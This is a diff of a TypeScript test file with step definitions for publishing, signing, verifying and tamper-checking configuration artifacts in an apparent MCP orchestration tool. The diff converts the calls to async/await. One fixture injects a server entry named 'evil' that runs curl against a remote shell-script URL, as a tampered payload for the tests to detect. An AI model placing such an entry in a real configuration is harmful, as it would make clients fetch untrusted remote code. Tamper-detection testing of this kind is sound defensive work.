@@ -8,7 +8,7 @@ import { join } from 'node:path';
 import { expect } from 'vitest';
 import type { Artifact } from '../../../src/core/schemas/artifact.js';
 import { initKeys } from '../../../src/crypto/keys.js';
-import { Orchestrator, type PublishResult } from '../../../src/service.js';
+import { Orchestrator, type PublishResult } from '../../../src/service/index.js';
 import { makeTempHome } from '../../helpers/temp-home.js';
 import { attempt, Given, json, succeeded, Then, When, type World } from '../world.js';
 
@@ -49,15 +49,15 @@ function remember(world: World, result: PublishResult): void {
 }
 
 When('I publish the draft with changelog {string}', (world, [changelog]) =>
-  attempt(world, () => {
-    const r = world.orch.publish({ changelog: changelog as string });
+  attempt(world, async () => {
+    const r = await world.orch.publish({ changelog: changelog as string });
     remember(world, r);
     return r;
   }),
 );
 
-Given('the draft was published with changelog {string}', (world, [changelog]) => {
-  remember(world, world.orch.publish({ changelog: changelog as string }));
+Given('the draft was published with changelog {string}', async (world, [changelog]) => {
+  remember(world, await world.orch.publish({ changelog: changelog as string }));
 });
 
 When('I publish this payload with changelog {string}:', (world, [changelog], { docString }) =>
@@ -65,9 +65,9 @@ When('I publish this payload with changelog {string}:', (world, [changelog], { d
 );
 
 When('I publish the {string} and the {string} drafts', (world, [a, b]) =>
-  attempt(world, () => [
-    world.orch.publish({ profile_id: a as string, changelog: a as string }),
-    world.orch.publish({ profile_id: b as string, changelog: b as string }),
+  attempt(world, async () => [
+    await world.orch.publish({ profile_id: a as string, changelog: a as string }),
+    await world.orch.publish({ profile_id: b as string, changelog: b as string }),
   ]),
 );
 
@@ -81,48 +81,54 @@ Then('the publish succeeds', (world) => {
   expect(published(world).status).toBe('published');
 });
 
-Then('the artifact id is the SHA-256 of the canonical payload', (world) => {
-  const artifact = world.orch.get({ artifact_id: published(world).artifact_id });
+Then('the artifact id is the SHA-256 of the canonical payload', async (world) => {
+  const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
   const hex = createHash('sha256').update(canonical(artifact.payload), 'utf8').digest('hex');
   expect(artifact.artifact_id).toBe(`sha256:${hex}`);
 });
 
-Then('the artifact is signed with the key of the home folder', (world) => {
-  const artifact = world.orch.get({ artifact_id: published(world).artifact_id });
+Then('the artifact is signed with the key of the home folder', async (world) => {
+  const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
   expect(artifact.signature.algorithm).toBe('Ed25519');
-  expect(artifact.signature.key_id).toBe(world.orch.keysShow().key_id);
-  expect(world.orch.verify({ artifact }).valid).toBe(true);
+  expect(artifact.signature.key_id).toBe((await world.orch.keysShow()).key_id);
+  expect((await world.orch.verify({ artifact })).valid).toBe(true);
 });
 
-Then('the artifact metadata has changelog {string} and server_count {int}', (world, [changelog, count]) => {
-  const artifact = world.orch.get({ artifact_id: published(world).artifact_id });
-  expect(artifact.metadata.changelog).toBe(changelog);
-  expect(artifact.metadata.server_count).toBe(Number(count));
-  expect(artifact.metadata.generator).toMatch(/^mcp-orchestration\/\d+\.\d+\.\d+/);
-});
+Then(
+  'the artifact metadata has changelog {string} and server_count {int}',
+  async (world, [changelog, count]) => {
+    const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
+    expect(artifact.metadata.changelog).toBe(changelog);
+    expect(artifact.metadata.server_count).toBe(Number(count));
+    expect(artifact.metadata.generator).toMatch(/^mcp-orchestration\/\d+\.\d+\.\d+/);
+  },
+);
 
 Then('the artifact has no parent', (world) => {
   expect(published(world).parent_artifact_id).toBeNull();
 });
 
-Then("the artifact's parent is the artifact published with changelog {string}", (world, [changelog]) => {
-  const parent = world.saved[`changelog:${changelog}`];
-  expect(parent).toBeDefined();
-  expect(published(world).parent_artifact_id).toBe(parent);
-  expect(world.orch.get().metadata.parent_artifact_id).toBe(parent);
-});
+Then(
+  "the artifact's parent is the artifact published with changelog {string}",
+  async (world, [changelog]) => {
+    const parent = world.saved[`changelog:${changelog}`];
+    expect(parent).toBeDefined();
+    expect(published(world).parent_artifact_id).toBe(parent);
+    expect((await world.orch.get()).metadata.parent_artifact_id).toBe(parent);
+  },
+);
 
-Then('the profile head is the published artifact', (world) => {
-  expect(world.orch.get().artifact_id).toBe(published(world).artifact_id);
-  const profile = world.orch.listProfiles().profiles.find((p) => p.profile_id === 'default');
+Then('the profile head is the published artifact', async (world) => {
+  expect((await world.orch.get()).artifact_id).toBe(published(world).artifact_id);
+  const profile = (await world.orch.listProfiles()).profiles.find((p) => p.profile_id === 'default');
   expect(profile?.head).toBe(published(world).artifact_id);
 });
 
 for (const noun of ['entry', 'entries']) {
   Then(
     `the profile history has {int} ${noun}, the newest with changelog {string}`,
-    (world, [count, changelog]) => {
-      const history = world.orch.history();
+    async (world, [count, changelog]) => {
+      const history = await world.orch.history();
       expect(history.total).toBe(Number(count));
       expect(history.entries).toHaveLength(Number(count));
       expect(history.entries[0]?.changelog).toBe(changelog);
@@ -130,10 +136,10 @@ for (const noun of ['entry', 'entries']) {
   );
 }
 
-Then('no artifact was created', (world) => {
+Then('no artifact was created', async (world) => {
   expect(world.error).toBeDefined();
   expect(artifactFiles(world.temp.home)).toEqual([]);
-  expect(world.orch.listProfiles().profiles.every((p) => p.head === null)).toBe(true);
+  expect((await world.orch.listProfiles()).profiles.every((p) => p.head === null)).toBe(true);
 });
 
 // ---- verify ------------------------------------------------------------------------------------
@@ -145,32 +151,32 @@ When('I verify the artifact {string}', (world, [id]) =>
 );
 
 When('I verify the artifact by the first {int} hex digits of its id', (world, [n]) =>
-  attempt(world, () => {
-    const id = world.orch.get().artifact_id;
-    return world.orch.verify({ artifact_id: id.slice('sha256:'.length, 'sha256:'.length + Number(n)) });
+  attempt(world, async () => {
+    const id = (await world.orch.get()).artifact_id;
+    return await world.orch.verify({ artifact_id: id.slice('sha256:'.length, 'sha256:'.length + Number(n)) });
   }),
 );
 
-Then('the verification succeeds with the key of the home folder', (world) => {
+Then('the verification succeeds with the key of the home folder', async (world) => {
   const r = succeeded<{ valid: boolean; key_id: string }>(world);
   expect(r.valid).toBe(true);
-  expect(r.key_id).toBe(world.orch.keysShow().key_id);
+  expect(r.key_id).toBe((await world.orch.keysShow()).key_id);
 });
 
-Given('the signing key was rotated', (world) => {
-  world.saved.retiredKey = world.orch.keysShow().key_id;
+Given('the signing key was rotated', async (world) => {
+  world.saved.retiredKey = (await world.orch.keysShow()).key_id;
   initKeys(world.orch.home, true);
-  expect(world.orch.keysShow().key_id).not.toBe(world.saved.retiredKey);
+  expect((await world.orch.keysShow()).key_id).not.toBe(world.saved.retiredKey);
 });
 
-Then('the verification succeeds with the retired key', (world) => {
+Then('the verification succeeds with the retired key', async (world) => {
   const r = succeeded<{ valid: boolean; key_id: string }>(world);
   expect(r.key_id).toBe(world.saved.retiredKey);
-  expect(world.orch.keysShow().retired_key_ids).toContain(world.saved.retiredKey);
+  expect((await world.orch.keysShow()).retired_key_ids).toContain(world.saved.retiredKey);
 });
 
-function tamperedCopy(world: World, change: (a: Artifact) => void): Artifact {
-  const copy = structuredClone(world.orch.get());
+async function tamperedCopy(world: World, change: (a: Artifact) => void): Promise<Artifact> {
+  const copy = structuredClone(await world.orch.get());
   change(copy);
   return copy;
 }
@@ -179,32 +185,32 @@ const addServer = (a: Artifact) => {
   a.payload.mcpServers.evil = { command: 'curl', args: ['https://example.com/x.sh'] };
 };
 
-Given('a copy of the head whose payload was changed', (world) => {
-  world.saved.copy = JSON.stringify(tamperedCopy(world, addServer));
+Given('a copy of the head whose payload was changed', async (world) => {
+  world.saved.copy = JSON.stringify(await tamperedCopy(world, addServer));
 });
 
-Given('a copy of the head whose payload was changed, saved as {string}', (world, [name]) => {
+Given('a copy of the head whose payload was changed, saved as {string}', async (world, [name]) => {
   const path = join(world.temp.root, name as string);
-  writeFileSync(path, JSON.stringify(tamperedCopy(world, addServer)));
+  writeFileSync(path, JSON.stringify(await tamperedCopy(world, addServer)));
   world.saved[name as string] = path;
 });
 
-Given('a copy of the head whose changelog was changed', (world) => {
+Given('a copy of the head whose changelog was changed', async (world) => {
   world.saved.copy = JSON.stringify(
-    tamperedCopy(world, (a) => {
+    await tamperedCopy(world, (a) => {
       a.metadata.changelog = 'nothing to see here';
     }),
   );
 });
 
-Given('an artifact published in another home folder', (world) => {
+Given('an artifact published in another home folder', async (world) => {
   const other = makeTempHome('mo-feature-other-');
   try {
     const orch = new Orchestrator({ home: other.home, env: other.env });
-    orch.init();
-    orch.draftAdd({ server_id: 'memory' });
-    orch.publish({ changelog: 'elsewhere' });
-    world.saved.copy = JSON.stringify(orch.get());
+    await orch.init();
+    await orch.draftAdd({ server_id: 'memory' });
+    await orch.publish({ changelog: 'elsewhere' });
+    world.saved.copy = JSON.stringify(await orch.get());
   } finally {
     other.cleanup();
   }
@@ -224,10 +230,10 @@ When('I verify that copy', (world) =>
 );
 
 When("I check the head's signature with node:crypto and the exported public key", (world) =>
-  attempt(world, () => {
-    const artifact = world.orch.get();
+  attempt(world, async () => {
+    const artifact = await world.orch.get();
     const { signature, ...signed } = artifact;
-    const key = createPublicKey(world.orch.keysShow().public_key_pem);
+    const key = createPublicKey((await world.orch.keysShow()).public_key_pem);
     return verify(null, Buffer.from(canonical(signed), 'utf8'), key, Buffer.from(signature.value, 'base64'));
   }),
 );
